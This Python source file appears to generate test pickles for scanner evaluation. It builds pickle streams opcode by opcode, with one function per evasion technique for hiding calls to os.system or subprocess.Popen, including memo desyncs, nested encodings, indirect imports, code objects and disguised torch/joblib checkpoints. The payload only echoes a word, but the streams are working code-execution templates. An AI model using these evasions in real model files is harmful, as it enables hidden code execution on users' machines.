"""Pickle streams, opcode by opcode: a small assembler, and one function for each way to hide what a stream does.

Payloads are inert: what they would run prints a word.
"""

import base64
import struct

STOP = b"."
MARK = b"("
PAYLOAD = "echo hi"


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: two lines."""
    return f"c{module}\n{attribute}\n".encode()


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    content = text.encode()
    return b"\x8c" + bytes([len(content)]) + content


def unicode(text: str) -> bytes:
    """BINUNICODE."""
    content = text.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def data(content: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(content)) + content


def small(number: int) -> bytes:
    """BININT1."""
    return b"K" + bytes([number])


def stacked(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL of two fresh strings."""
    return short(module) + short(attribute) + b"\x93"


def tuple_of(*items: bytes) -> bytes:
    return MARK + b"".join(items) + b"t"


def call(callee: bytes, *items: bytes) -> bytes:
    """REDUCE."""
    return callee + tuple_of(*items) + b"R"


def frame(content: bytes, nbytes: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(content) if nbytes is None else nbytes) + content


def system(word: str = PAYLOAD) -> bytes:
    """The smallest protocol 0 stream that starts a process."""
    return f"cos\nsystem\n(S'{word}'\ntR.".encode()


def system4(word: str = PAYLOAD) -> bytes:
    """The same in protocol 4, framed."""
    return proto(4) + frame(call(stacked("os", "system"), short(word)) + STOP)


def by_inst() -> bytes:
    return f"(S'{PAYLOAD}'\nios\nsystem\n.".encode()


def by_obj() -> bytes:
    return MARK + name("os", "system") + f"S'{PAYLOAD}'\n".encode() + b"o."


def by_newobj() -> bytes:
    return proto(2) + name("subprocess", "Popen") + tuple_of(unicode(PAYLOAD)) + b"\x81."


def by_newobj_ex() -> bytes:
    keywords = b"}" + short("shell") + b"\x88s"
    return proto(4) + stacked("subprocess", "Popen") + tuple_of(short(PAYLOAD)) + keywords + b"\x92."


def by_extension(code: int = 240) -> bytes:
    """copyreg.add_extension registers the name in band, EXT1 imports it without spelling it."""
    register = call(name("copyreg", "add_extension"), short("os"), short("system"), small(code))
    return proto(4) + register + b"0\x82" + bytes([code]) + tuple_of(short(PAYLOAD)) + b"R."


def by_extension_alone(code: int = 7) -> bytes:
    return proto(2) + b"\x82" + bytes([code]) + b")R."


def through_memo() -> bytes:
    """Module and name lie in the memo under mixed PUT and MEMOIZE keys, with decoys in between."""
    stored = short("system") + b"\x94" + short("decoy") + b"q\x01" + short("os") + b"p2\n000"
    return proto(4) + stored + b"h\x02h\x00\x93" + tuple_of(short(PAYLOAD)) + b"R."


def argument_at_index_zero() -> bytes:
    """STACK_GLOBAL whose strings are the first things in the stream (CVE-2025-71325)."""
    return short("os") + short("system") + b"\x93" + tuple_of(short(PAYLOAD)) + b"R."


def memo_value_desync() -> bytes:
    """MEMOIZE after BINGET stores the value, not the argument of the opcode before it."""
    first = short("os") + b"\x94" + short("json") + b"\x940h\x00\x94" + b"00"
    return proto(4) + first + b"h\x02" + short("system") + b"\x93" + tuple_of(short(PAYLOAD)) + b"R."


def memo_after_pop() -> bytes:
    """POP then MEMOIZE: what is stored lies under what was pushed last."""
    names = short("os") + short("json") + b"0\x94" + short("system")
    return proto(4) + names + b"\x93" + tuple_of(short(PAYLOAD)) + b"R."


def base_zero_integer(line: str = "I0x10") -> bytes:
    """C reads the number in base 0; a reader that does not stops before the payload."""
    return f"{line}\n0".encode() + system()


def second_proto() -> bytes:
    return proto(2) + proto(4) + system4()[2:]


def broken_after_payload(tail: bytes = b"\xff") -> bytes:
    return system()[:-1] + tail


def lying_frame() -> bytes:
    return proto(4) + frame(call(stacked("os", "system"), short(PAYLOAD)) + STOP, 1 << 20)


def many_streams(count: int = 60) -> bytes:
    return b"".join(proto(4) + small(number % 250) + STOP for number in range(count - 1)) + system4()


def padded_streams() -> bytes:
    return proto(4) + b"}." + bytes(512) + system4()


def junk_between() -> bytes:
    return proto(4) + b"}." + b"\xff\xfe junk that is no stream \xff" + system4()


def dotted(module: str = "random", attribute: str = "_os.system") -> bytes:
    return proto(4) + call(stacked(module, attribute), short(PAYLOAD)) + STOP


def through_loaded_modules() -> bytes:
    """collections._sys.modules.get('os'), then its attribute."""
    get = call(stacked("collections", "_sys.modules.get"), short("os"))
    return proto(4) + call(call(stacked("builtins", "getattr"), get, short("system")), short(PAYLOAD)) + STOP


def build_on_global() -> bytes:
    """State set on an imported function (modelscan #330)."""
    return proto(4) + stacked("numpy", "size") + b"}" + short("shape") + stacked("builtins", "eval") + b"sb."


def joined_name() -> bytes:
    """getattr(str, 'join')('', ['o', 's']) spells the module."""
    join = call(stacked("builtins", "getattr"), stacked("builtins", "str"), short("join"))
    module = join + tuple_of(short(""), b"](" + short("o") + short("s") + b"e") + b"R"
    return proto(4) + module + short("system") + b"\x93" + tuple_of(short(PAYLOAD)) + b"R."


def concatenated_name() -> bytes:
    module = call(stacked("_operator", "concat"), short("o"), short("s"))
    return proto(4) + module + short("system") + b"\x93" + tuple_of(short(PAYLOAD)) + b"R."


def imported_module() -> bytes:
    """importlib.import_module('os'), then getattr."""
    module = call(stacked("importlib", "import_module"), short("os"))
    return proto(4) + call(call(stacked("builtins", "getattr"), module, short("system")), short(PAYLOAD)) + STOP


def attrgetter() -> bytes:
    getter = call(stacked("operator", "attrgetter"), short("path.os.system"))
    return proto(4) + call(getter, stacked("posixpath", "os"))[:-1] + b"R" + tuple_of(short(PAYLOAD)) + b"R."


def methodcaller() -> bytes:
    caller = call(stacked("operator", "methodcaller"), short("system"), short(PAYLOAD))
    return proto(4) + call(caller, call(stacked("importlib", "import_module"), short("os"))) + STOP


def partial() -> bytes:
    return proto(4) + call(call(stacked("functools", "partial"), stacked("os", "system")), short(PAYLOAD)) + STOP


def partial_by_state() -> bytes:
    """A harmless partial whose state is replaced before it is called."""
    state = tuple_of(stacked("os", "system"), tuple_of(short(PAYLOAD)), b"}", b"N")
    made = call(stacked("functools", "partial"), stacked("builtins", "print")) + state + b"b"
    return proto(4) + made + b")R."


def nested_bytes(inner: bytes | None = None) -> bytes:
    return proto(4) + data(system4() if inner is None else inner) + STOP


def nested_base64() -> bytes:
    return proto(4) + short(base64.b64encode(system4()).decode()) + STOP


def nested_hex() -> bytes:
    return proto(4) + short(system4().hex()) + STOP


def nested_latin1() -> bytes:
    return proto(2) + call(name("_codecs", "encode"), unicode(system4().decode("latin-1")), unicode("latin1")) + STOP


def nested_text() -> bytes:
    """A protocol 0 stream in a bytes constant."""
    return proto(4) + data(system()) + STOP


def nested_loads(inner: bytes | None = None) -> bytes:
    return proto(4) + call(stacked("pickle", "loads"), data(system4() if inner is None else inner)) + STOP


def popped_call() -> bytes:
    return proto(4) + call(stacked("os", "system"), short(PAYLOAD)) + b"0N."


def call_in_items() -> bytes:
    """The result is only ever a value of a dict."""
    return proto(4) + b"}" + short("key") + call(stacked("os", "system"), short(PAYLOAD)) + b"s0N."


def doubling(levels: int = 40, width: int = 2) -> bytes:
    """Each list holds the one before it `width` times."""
    out = [proto(4), b"](", short("lol") * width, b"e\x94"]
    out += (b"](" + (b"h" + bytes([level])) * width + b"e\x94" for level in range(levels))
    return b"".join(out) + STOP


def doubling_from_the_top(levels: int = 40) -> bytes:
    """The same graph, its outer lists filled before the inner ones."""
    out = [proto(4), b"]\x94" * (levels + 1)]
    for level in range(levels, 0, -1):
        out += (b"h", bytes([level]), b"(", (b"h" + bytes([level - 1])) * 2, b"e0")
    return b"".join(out) + b"h" + bytes([levels]) + STOP


def code_object() -> bytes:
    """types.CodeType as cloudpickle calls it in Python 3.11, then a function of it."""
    code = call(
        call(stacked("cloudpickle.cloudpickle", "_builtin_type"), short("CodeType")),
        *(small(number) for number in (0, 0, 0, 0, 2, 3)),
        data(b"\x97\x00d\x01S\x00"),
        tuple_of(b"N", short(PAYLOAD)),
        tuple_of(short("os"), short("system")),
        b")",
        short("<stdin>"),
        short("run"),
        short("run"),
        small(1),
        data(b""),
        data(b""),
        b")",
        b")",
    )
    return proto(4) + call(stacked("cloudpickle.cloudpickle", "_make_function"), code, b"}", b"N", b"N", b"N") + STOP


def wrapper(shape: tuple[int, ...], dtype: str, *, alignment: int | None = None) -> bytes:
    """joblib's NumpyArrayWrapper with its state; the array's bytes follow."""
    keys = b"}" + MARK + short("subclass") + stacked("numpy", "ndarray")
    keys += short("shape") + tuple_of(*(small(extent) for extent in shape)) + short("order") + short("C")
    keys += short("dtype") + call(stacked("numpy", "dtype"), short(dtype), b"\x89", b"\x88")
    keys += short("allow_mmap") + b"\x88"
    if alignment is not None:
        keys += short("numpy_array_alignment_bytes") + small(alignment)
    return stacked("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + keys + b"ub"


def storage(key: str, numel: int, kind: str = "FloatStorage") -> bytes:
    """A persistent id of torch."""
    parts = (unicode("storage"), name("torch", kind), unicode(key), unicode("cpu"), b"J" + struct.pack("<i", numel))
    return tuple_of(*parts) + b"Q"


def torch_tensor(key: str, numel: int) -> bytes:
    hooks = call(name("collections", "OrderedDict"))
    parts = (storage(key, numel), small(0), tuple_of(small(numel)), tuple_of(small(1)), b"\x89", hooks)
    return call(name("torch._utils", "_rebuild_tensor_v2"), *parts)


def torch_state(*keys: tuple[str, int]) -> bytes:
    """The data.pkl of a state dict."""
    items = b"".join(unicode(f"{key}.weight") + torch_tensor(key, numel) for key, numel in keys)
    return proto(2) + call(name("collections", "OrderedDict")) + MARK + items + b"u."


def torch_legacy(*keys: tuple[str, int], numel: int | None = None) -> bytes:
    """A checkpoint as torch.save wrote it before 1.6; `numel` lies about the length of each storage."""
    magic = proto(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
    version = proto(2) + b"M\xe9\x03."
    info = proto(2) + b"}" + MARK + unicode("little_endian") + b"\x88u."
    listed = proto(2) + b"](" + b"".join(unicode(key) for key, _ in keys) + b"e."
    out = magic + version + info + torch_state(*keys) + listed
    for _, count in keys:
        out += struct.pack("<q", count if numel is None else numel) + bytes(4 * count)
    return out


def split_frame_line() -> bytes:
    """A frame that ends inside a GLOBAL line: read from io.BytesIO the `j` is dropped, and `os` is imported."""
    return proto(4) + frame(b"cj") + b"os\nsystem\n" + tuple_of(short(PAYLOAD)) + b"R."
